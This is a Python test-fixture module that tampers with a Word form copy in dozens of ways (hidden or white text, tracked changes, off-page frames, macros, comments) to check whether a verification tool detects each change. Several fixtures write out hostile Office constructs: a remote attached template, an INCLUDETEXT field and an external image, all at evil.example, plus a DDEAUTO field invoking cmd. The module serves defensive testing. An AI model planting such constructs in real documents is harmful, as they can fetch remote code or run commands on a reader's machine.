"""What people and programs do to a Word copy that is not filling it in: each must be seen."""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from typing import TypeAlias

from docx.oxml.ns import qn
from lxml import etree
from returned_kit import COUNCIL, TY_CYMRU
from signing_kit import control

Parts = dict[str, bytes]
ChangeDocx = Callable[[Parts], None]
Root: TypeAlias = etree._Element
DOCUMENT, STYLES, RELATIONS = "word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"
NAMESPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
)
CLAUSE = "Secure e-mail"


def element(xml: str) -> Root:
    return etree.fromstring(re.sub(r"^<([\w:]+)", rf"<\1 {NAMESPACES}", xml))


def change_part(parts: Parts, name: str, change: Callable[[Root], None]) -> None:
    root = etree.fromstring(parts[name])
    change(root)
    parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def in_document(change: Callable[[Root], None]) -> ChangeDocx:
    def on(parts: Parts) -> None:
        change_part(parts, DOCUMENT, change)

    on.__name__ = change.__name__
    return on


def clause(root: Root, words: str = CLAUSE) -> Root:
    """The run that begins with the words of a clause."""
    return next(one for one in root.iter(qn("w:t")) if (one.text or "").startswith(words)).getparent()


def paragraph_of(run: Root) -> Root:
    return next(run.iterancestors(qn("w:p")))


def part_of(owner: Root, name: str) -> Root:
    found = owner.find(qn(name))
    if found is None:
        found = etree.Element(qn(name))
        owner.insert(0, found)
    return found


def formatted(xml: str, name: str) -> ChangeDocx:
    """The clause with a property of its run."""

    def on(parts: Parts) -> None:
        change_part(parts, DOCUMENT, lambda root: part_of(clause(root), "w:rPr").append(element(xml)))

    on.__name__ = name
    return on


def styled(xml: str, name: str, *, on_paragraph: bool = False, based: bool = False) -> ChangeDocx:
    """The clause with a style of its own that has a property, or is based on one that has it."""

    def on(parts: Parts) -> None:
        kind = "paragraph" if on_paragraph else "character"

        def add(root: Root) -> None:
            root.append(element(f'<w:style w:type="{kind}" w:styleId="X0"><w:rPr>{xml}</w:rPr></w:style>'))
            root.append(element(f'<w:style w:type="{kind}" w:styleId="X1"><w:basedOn w:val="X0"/></w:style>'))

        change_part(parts, STYLES, add)
        used = "X1" if based else "X0"

        def use(root: Root) -> None:
            run = clause(root)
            if on_paragraph:
                properties = part_of(paragraph_of(run), "w:pPr")
                for old in properties.findall(qn("w:pStyle")):
                    properties.remove(old)
                properties.insert(0, element(f'<w:pStyle w:val="{used}"/>'))
            else:
                part_of(run, "w:rPr").insert(0, element(f'<w:rStyle w:val="{used}"/>'))

        change_part(parts, DOCUMENT, use)

    on.__name__ = name
    return on


def paragraph_property(xml: str, name: str) -> ChangeDocx:
    def on(parts: Parts) -> None:
        change_part(parts, DOCUMENT, lambda root: part_of(paragraph_of(clause(root)), "w:pPr").append(element(xml)))

    on.__name__ = name
    return on


def relation(parts: Parts, kind: str, target: str, *, external: bool = False) -> None:
    def add(root: Root) -> None:
        one = etree.SubElement(root, root[0].tag, Id="rIdX", Target=target)
        one.set("Type", f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}")
        if external:
            one.set("TargetMode", "External")

    change_part(parts, RELATIONS, add)


# -- words ------------------------------------------------------------------------------------------------------


@in_document
def word_changed(root: Root) -> None:
    clause(root)[-1].text = "Any e-mail"


@in_document
def words_after_a_comment(root: Root) -> None:
    """A program shows the words on both sides of a comment of XML."""
    words = clause(root)[-1]
    words.append(etree.Comment("x"))
    words[-1].tail = " Or post."


@in_document
def word_added(root: Root) -> None:
    clause(root)[-1].text = "Secure e-mail or post"


@in_document
def paragraph_removed(root: Root) -> None:
    gone = paragraph_of(clause(root, "Second step"))
    gone.getparent().remove(gone)


@in_document
def rows_changed_about(root: Root) -> None:
    row = next(clause(root).iterancestors(qn("w:tr")))
    row.getparent().insert(1, row)


@in_document
def tracked_deletion(root: Root) -> None:
    run = clause(root)
    deleted = element('<w:del w:id="900" w:author="A" w:date="2026-11-30T00:00:00Z"/>')
    run.addprevious(deleted)
    deleted.append(run)
    for words in run.iter(qn("w:t")):
        words.tag = qn("w:delText")


@in_document
def tracked_insertion(root: Root) -> None:
    run = clause(root)
    run.addnext(element('<w:ins w:id="901" w:author="A"><w:r><w:t xml:space="preserve"> or post</w:t></w:r></w:ins>'))


@in_document
def tracked_move(root: Root) -> None:
    run = clause(root)
    moved = element('<w:moveFrom w:id="902" w:author="A"/>')
    run.addprevious(moved)
    target = element('<w:moveTo w:id="903" w:author="A"/>')
    target.append(copy.deepcopy(run))
    moved.append(run)
    paragraph_of(clause(root, "Second step")).append(target)


@in_document
def words_in_a_control_of_their_own(root: Root) -> None:
    paragraph_of(clause(root, "Second step")).append(
        element(
            '<w:sdt><w:sdtPr><w:tag w:val="third"/></w:sdtPr><w:sdtContent><w:r><w:t>Third step: all is shared.</w:t></w:r></w:sdtContent></w:sdt>'
        )
    )


@in_document
def clause_put_into_a_control(root: Root) -> None:
    run = clause(root)
    wrapper = element("<w:sdt><w:sdtPr/><w:sdtContent/></w:sdt>")
    run.addprevious(wrapper)
    wrapper[1].append(run)


@in_document
def line_among_the_contents(root: Root) -> None:
    contents = next(root.iter(qn("w:docPartObj"))).getparent().getparent()
    contents.find(qn("w:sdtContent")).append(
        element("<w:p><w:r><w:t>Everything is shared with everybody.</w:t></w:r></w:p>")
    )


@in_document
def band_changed(root: Root) -> None:
    next(control(root, "copy__for").iter(qn("w:t"))).text = "Copy 2 of 2, for Somebody Else"


@in_document
def formula(root: Root) -> None:
    paragraph_of(clause(root)).append(element("<m:oMath><m:r><m:t>not agreed</m:t></m:r></m:oMath>"))


def list_renumbered(parts: Parts) -> None:
    def change(root: Root) -> None:
        for level in root.iter(qn("w:lvlText")):
            if level.get(qn("w:val"), "").startswith("%1"):
                level.set(qn("w:val"), "Not agreed %1")

    change_part(parts, "word/numbering.xml", change)


def list_started_elsewhere(parts: Parts) -> None:
    def change(root: Root) -> None:
        for start in root.iter(qn("w:startOverride")):
            start.set(qn("w:val"), "7")
        for start in root.iter(qn("w:start")):
            start.set(qn("w:val"), "7")

    change_part(parts, "word/numbering.xml", change)


# -- headers, footers, notes ------------------------------------------------------------------------------------


def header_reservation(parts: Parts) -> None:
    change_part(
        parts,
        "word/header1.xml",
        lambda root: root.append(element("<w:p><w:r><w:t>SIGNED SUBJECT TO CONTRACT</w:t></w:r></w:p>")),
    )


def footer_changed(parts: Parts) -> None:
    def change(root: Root) -> None:
        next(one for one in root.iter(qn("w:t")) if (one.text or "").strip()).text = "Draft, not agreed"

    change_part(parts, "word/footer1.xml", change)


def footnote(parts: Parts) -> None:
    change_part(
        parts,
        "word/footnotes.xml",
        lambda root: root.append(
            element('<w:footnote w:id="77"><w:p><w:r><w:t>Not agreed.</w:t></w:r></w:p></w:footnote>')
        ),
    )


def comment(parts: Parts) -> None:
    change_part(
        parts,
        "word/comments.xml",
        lambda root: root.append(
            element(
                '<w:comment w:id="1" w:author="A"><w:p><w:r><w:t>We do not accept this.</w:t></w:r></w:p></w:comment>'
            )
        ),
    )


# -- what stands among the words --------------------------------------------------------------------------------

TEXT_BOX = (
    '<w:r><w:pict><v:shape id="s1" style="position:absolute"><v:textbox><w:txbxContent><w:p><w:r><w:t>NOT AGREED</w:t></w:r></w:p>'
    "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
)
WORD_ART = '<w:r><w:pict><v:shape id="s2"><v:textpath on="t" string="NOT AGREED"/></v:shape></w:pict></w:r>'


@in_document
def text_box(root: Root) -> None:
    paragraph_of(clause(root)).append(element(TEXT_BOX))


@in_document
def word_art(root: Root) -> None:
    paragraph_of(clause(root)).append(element(WORD_ART))


@in_document
def drawing(root: Root) -> None:
    paragraph_of(clause(root)).append(element("<w:r><w:drawing/></w:r>"))


def watermark(parts: Parts) -> None:
    change_part(parts, "word/header1.xml", lambda root: next(root.iter(qn("w:p"))).append(element(WORD_ART)))


def another_document(parts: Parts) -> None:
    parts["word/other.html"] = b"<p>Everything is shared.</p>"
    relation(parts, "aFChunk", "other.html")
    change_part(parts, DOCUMENT, lambda root: paragraph_of(clause(root)).addnext(element('<w:altChunk r:id="rIdX"/>')))


def macro(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"x"


def embedded_object(parts: Parts) -> None:
    parts["word/embeddings/object1.bin"] = b"x"


def embedded_font(parts: Parts) -> None:
    parts["word/fonts/font1.odttf"] = b"x"


def template_elsewhere(parts: Parts) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )


def picture_elsewhere(parts: Parts) -> None:
    relation(parts, "image", "https://evil.example/x.png", external=True)


def link_elsewhere(parts: Parts) -> None:
    def change(root: Root) -> None:
        next(one for one in root if one.get("TargetMode") == "External").set("Target", "https://evil.example/")

    change_part(parts, RELATIONS, change)


@in_document
def field_worked_out(root: Root) -> None:
    paragraph_of(clause(root)).append(element('<w:fldSimple w:instr=" INCLUDETEXT https://evil.example "/>'))


@in_document
def field_that_runs(root: Root) -> None:
    for piece in (
        '<w:fldChar w:fldCharType="begin"/>',
        "<w:instrText> DDEAUTO c:\\\\x cmd </w:instrText>",
        '<w:fldChar w:fldCharType="end"/>',
    ):
        paragraph_of(clause(root)).append(element(f"<w:r>{piece}</w:r>"))


@in_document
def words_loaded_from_data(root: Root) -> None:
    control(root, f"{COUNCIL}__name").find(qn("w:sdtPr")).append(
        element('<w:dataBinding w:xpath="/a" w:storeItemID="{X}"/>')
    )


@in_document
def border_around_the_page(root: Root) -> None:
    next(root.iter(qn("w:sectPr"))).append(element('<w:pgBorders><w:top w:val="single"/></w:pgBorders>'))


@in_document
def page_made_narrow(root: Root) -> None:
    next(root.iter(qn("w:pgSz"))).set(qn("w:w"), "3000")


# -- places -----------------------------------------------------------------------------------------------------


@in_document
def row_without_height(root: Root) -> None:
    row = next(clause(root).iterancestors(qn("w:tr")))
    part_of(row, "w:trPr").append(element('<w:trHeight w:val="1" w:hRule="exact"/>'))


@in_document
def row_hidden(root: Root) -> None:
    part_of(next(clause(root).iterancestors(qn("w:tr"))), "w:trPr").append(element("<w:hidden/>"))


@in_document
def cell_merged_away(root: Root) -> None:
    part_of(next(clause(root).iterancestors(qn("w:tc"))), "w:tcPr").append(element("<w:vMerge/>"))


@in_document
def cell_crossed_out(root: Root) -> None:
    cell = next(clause(root).iterancestors(qn("w:tc")))
    part_of(cell, "w:tcPr").append(element('<w:tcBorders><w:tl2br w:val="single"/></w:tcBorders>'))


@in_document
def cell_of_the_colour_of_its_words(root: Root) -> None:
    run = clause(root)
    part_of(run, "w:rPr").append(element('<w:color w:val="112233"/>'))
    part_of(next(run.iterancestors(qn("w:tc"))), "w:tcPr").append(element('<w:shd w:val="clear" w:fill="112233"/>'))


# -- the block --------------------------------------------------------------------------------------------------


@in_document
def signature_in_another_block(root: Root) -> None:
    found = control(root, f"{TY_CYMRU}__signature")
    for flag in found.iter(qn("w:showingPlcHdr")):
        flag.getparent().remove(flag)
    next(found.find(qn("w:sdtContent")).iter(qn("w:t"))).text = "A. Example"


@in_document
def block_twice(root: Root) -> None:
    first = control(root, f"{COUNCIL}__name")
    first.addnext(copy.deepcopy(first))
    next(first.getnext().iter(qn("w:t"))).text = "Somebody else"


def theme_white(parts: Parts) -> None:
    """Black by its number, white by the theme: Word follows the theme."""
    formatted('<w:color w:val="000000" w:themeColor="background1"/>', "x")(parts)


def defaults_struck(parts: Parts) -> None:
    change_part(
        parts,
        STYLES,
        lambda root: root.find(f"{qn('w:docDefaults')}/{qn('w:rPrDefault')}/{qn('w:rPr')}").append(
            element("<w:strike/>")
        ),
    )


def see_through(parts: Parts) -> None:
    fill = '<w14:textFill><w14:solidFill><w14:srgbClr w14:val="000000"><w14:alpha w14:val="100000"/></w14:srgbClr></w14:solidFill></w14:textFill>'
    formatted(fill, "x")(parts)


#: A reader sees other words, or sees them in another way.
ALTERED: tuple[ChangeDocx, ...] = (
    word_changed, words_after_a_comment, word_added, paragraph_removed, tracked_deletion, tracked_insertion, tracked_move,
    words_in_a_control_of_their_own, line_among_the_contents, band_changed, formula,
    list_renumbered, list_started_elsewhere, header_reservation, footer_changed, footnote,
    row_without_height, row_hidden, cell_merged_away, cell_crossed_out, cell_of_the_colour_of_its_words, theme_white, rows_changed_about,
    defaults_struck, see_through, page_made_narrow, block_twice,
    formatted("<w:strike/>", "struck"), formatted("<w:dstrike/>", "struck_twice"), formatted("<w:vanish/>", "hidden"),
    formatted('<w:color w:val="FFFFFF"/>', "white"), formatted('<w:color w:val="F4F4F4"/>', "nearly_white"),
    formatted('<w:sz w:val="2"/>', "one_point"), formatted('<w:w w:val="1"/>', "squeezed"),
    formatted('<w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/>', "in_pictures"),
    styled("<w:strike/>", "struck_by_a_style"), styled("<w:vanish/>", "hidden_by_a_style", based=True),
    styled("<w:vanish/>", "hidden_by_the_style_of_its_paragraph", on_paragraph=True, based=True),
    styled('<w:color w:val="FFFFFF"/>', "white_by_a_style"), styled('<w:sz w:val="4"/>', "tiny_by_a_style", on_paragraph=True),
    paragraph_property('<w:spacing w:line="1" w:lineRule="exact"/>', "line_without_height"),
    paragraph_property('<w:ind w:left="20000"/>', "off_the_page"),
    paragraph_property('<w:framePr w:w="100" w:x="30000" w:y="1"/>', "in_a_frame_off_the_page"),
)  # fmt: skip
#: Something was put there.
ADDED: tuple[ChangeDocx, ...] = (
    comment, text_box, word_art, drawing, watermark, another_document, macro, embedded_object, embedded_font,
    template_elsewhere, picture_elsewhere, link_elsewhere, field_worked_out, field_that_runs, words_loaded_from_data,
    border_around_the_page, signature_in_another_block, clause_put_into_a_control,
)  # fmt: skip
#: The words are the same and seen, but look otherwise.
LOOKS: tuple[ChangeDocx, ...] = (
    formatted('<w:color w:val="C00000"/>', "red"), formatted('<w:highlight w:val="yellow"/>', "yellow"),
    formatted('<w:highlight w:val="black"/>', "black_marker"),
    formatted("<w:b/>", "bold"), formatted('<w:u w:val="single"/>', "underlined"), formatted('<w:sz w:val="14"/>', "small"),
    formatted('<w:rFonts w:ascii="Comic Sans MS" w:hAnsi="Comic Sans MS"/>', "other_font"),
)  # fmt: skip
